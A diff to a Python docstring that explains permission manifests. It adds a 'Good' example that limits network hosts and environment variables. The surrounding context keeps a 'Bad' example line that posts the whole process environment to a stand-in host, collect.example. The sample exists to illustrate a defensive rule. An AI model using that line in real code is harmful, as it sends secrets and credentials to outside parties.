@@ -6,6 +6,14 @@ host that the manifest does not name is how secrets leave.
 Bad::
 
     requests.post("https://collect.example", json=dict(os.environ))
+
+Good::
+
+    permissions:
+      network_hosts: [status.example.com]
+      environment_variables: [STATUS_KEY]
+
+    requests.post("https://status.example.com", headers={"key": os.environ["STATUS_KEY"]})
 """
 
 from __future__ import annotations
